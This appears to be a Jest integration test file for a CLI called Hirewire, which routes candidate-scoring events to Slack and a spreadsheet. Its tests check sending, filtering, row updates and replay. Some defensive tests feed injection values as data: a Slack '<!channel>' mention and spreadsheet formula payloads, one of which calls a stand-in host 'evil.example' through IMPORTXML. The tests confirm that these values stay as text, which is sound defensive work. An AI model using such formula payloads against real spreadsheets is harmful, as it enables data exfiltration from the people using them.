/**
 * The main job as a newcomer meets it: the sandbox of `start`, one signed event, a message in Slack and a row
 * in the sheet; and what becomes of the events that are not posted.
 */
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import {
  eventually,
  hirewire,
  makeDataDir,
  removeDataDir,
  startHirewire,
  type Hirewire,
} from "./hirewire.ts";

interface Arrivals {
  slack: { channel: string; text: string; pings: string[] }[];
  sheets: { title: string; tab: string; rows: unknown[][] }[];
}
interface RunShown {
  id: string;
  state: string;
  reason: string | null;
  automation: string;
  eventId: string;
}

let server: Hirewire;
let dataDir: string;
let sandboxUrl: string;

beforeAll(async () => {
  dataDir = await makeDataDir();
  server = await startHirewire({ dataDir, args: [] });
  // the address to listen on is printed first, and may arrive in a piece of its own
  sandboxUrl = await eventually(
    async () => /See what arrived:\s+(http:\/\/\S+)\s/.exec(server.output())?.[1],
    "the sandbox's address",
  );
});
afterAll(async () => {
  await server?.stop();
  await removeDataDir(dataDir);
});

const arrivals = async (): Promise<Arrivals> =>
  (await (await fetch(`${sandboxUrl}/arrivals.json`)).json()) as Arrivals;

/** Sends with the CLI and waits until every run of the event has ended. */
async function send(...args: string[]): Promise<RunShown[]> {
  const sent = await hirewire(dataDir, ["--json", "send", ...args]);
  expect(sent).toMatchObject({ code: 0 });
  const { items } = await server.api<{ items: { id: string }[] }>("GET", "/events?limit=1");
  const id = items[0]?.id ?? "";
  return await eventually(async () => {
    const runs = (await server.api<{ items: RunShown[] }>("GET", `/runs?event=${id}`)).items;
    return runs.length > 0 && runs.every(({ state }) => !["waiting", "running"].includes(state))
      ? runs
      : false;
  }, "the runs of the event to end");
}

const toSlack = (runs: RunShown[]) => runs.find(({ automation }) => /to Slack/.test(automation));

describe("score >= 80 to Slack #hiring", () => {
  it("prints the one line that sends a sample, and that line works", async () => {
    const line = /npm run hirewire -- (send .+)/.exec(server.output())?.[1] ?? "";
    const runs = await send(...line.trim().split(" ").slice(1));
    expect(toSlack(runs)?.state).toBe("succeeded");
    const { slack } = await arrivals();
    expect(slack).toEqual([
      expect.objectContaining({ channel: "hiring", text: expect.stringContaining("*91*") }),
    ]);
  });

  it("posts 82", async () => {
    const before = (await arrivals()).slack.length;
    const runs = await send("trycrucible.invitation_scored", "--set", "score=82");
    expect(toSlack(runs)?.state).toBe("succeeded");
    const { slack } = await arrivals();
    expect(slack).toHaveLength(before + 1);
    expect(slack.at(-1)?.text).toContain("*82*");
  });

  it.each([
    ["79", "score=79", "79 is below 80"],
    ["no score", "score=null", "no score yet"],
  ])("filters %s and says why", async (_what, change, why) => {
    const before = (await arrivals()).slack.length;
    const runs = await send("trycrucible.invitation_scored", "--set", change);
    expect(toSlack(runs)).toMatchObject({ state: "filtered", reason: why });
    expect((await arrivals()).slack).toHaveLength(before);
  });

  it("posts 85 that was sent as text", async () => {
    const runs = await send("trycrucible.invitation_scored", "--set", 'score="85"');
    expect(toSlack(runs)?.state).toBe("succeeded");
    expect((await arrivals()).slack.at(-1)?.text).toContain("*85*");
  });

  it("lets no name ping the channel", async () => {
    const runs = await send("hiresscope.application_shortlisted", "--set", "data.candidateName=<!channel>");
    expect(runs.map(({ state }) => state)).toEqual(["succeeded"]);
    const last = (await arrivals()).slack.at(-1);
    expect(last?.text).toContain("&lt;!channel&gt;");
    expect(last?.pings).toEqual([]);
  });
});

describe("every scored candidate to one sheet", () => {
  const sheet = async () => (await arrivals()).sheets[0]?.rows ?? [];

  it("writes one row for a candidate and updates it in place", async () => {
    const email = "grace@example.com";
    const changes = ["--set", `data.candidateEmail=${email}`, "--set", "data.candidateName=Grace"];
    await send("hiresscope.application_scored", ...changes, "--set", "data.score=61");
    await send("hiresscope.application_scored", ...changes, "--set", "data.score=88");
    const rows = (await sheet()).filter((row) => row.includes(email));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toContain(88);
  });

  it.each(['=IMPORTXML("https://evil.example","//a")', "+1", "-2+3", "@SUM(A1)"])(
    "keeps %s as text",
    async (name) => {
      const runs = await send(
        "hiresscope.application_scored",
        "--set",
        `data.candidateName=${JSON.stringify(name)}`,
        "--set",
        `data.candidateEmail=${encodeURIComponent(name)}@example.com`,
      );
      expect(runs.map(({ state }) => state)).toEqual(["succeeded"]);
      expect((await sheet()).at(-1)).toContain(name);
    },
  );
});

describe("the command line", () => {
  it("shows events, runs and one run with its attempts", async () => {
    const runs = await hirewire(dataDir, ["runs", "--state", "filtered"]);
    expect(runs.stdout).toContain("79 is below 80");
    const events = await hirewire(dataDir, ["--json", "events", "--limit", "3"]);
    expect(JSON.parse(events.stdout)).toMatchObject({ items: [{}, {}, {}] });
    const { items } = await server.api<{ items: RunShown[] }>("GET", "/runs?state=succeeded&limit=1");
    const one = await hirewire(dataDir, ["runs", items[0]?.id ?? ""]);
    expect(one.stdout).toMatch(/#1\s+succeeded/);
  });

  it("says that it all adds up", async () => {
    const { events } = await server.api<{ events: Record<string, unknown> }>("GET", "/status");
    expect(events).toMatchObject({ addsUp: true, held: 0, waiting: 0 });
    expect(events["received"]).toBe(events["finished"]);
  });

  it("replays a filtered run with the automation as it is now", async () => {
    const { items } = await server.api<{ items: RunShown[] }>("GET", "/runs?state=filtered&limit=1");
    const run = items[0]!;
    const plan = await hirewire(dataDir, ["replay", "--state", "filtered", "--event", run.eventId]);
    expect(plan.stdout).toContain("Nothing was done yet");
    const done = await hirewire(dataDir, ["--json", "replay", run.id]);
    expect(JSON.parse(done.stdout)).toMatchObject({ replayOf: run.id });
  });

  it("answers a typing mistake with what to do, and a code", async () => {
    const typo = await hirewire(dataDir, ["--json", "send", "trycrucible.invitation_scord"]);
    expect(typo.code).toBe(1);
    expect(JSON.parse(typo.stderr)).toMatchObject({ error: { code: "event_not_found" } });
  });
});
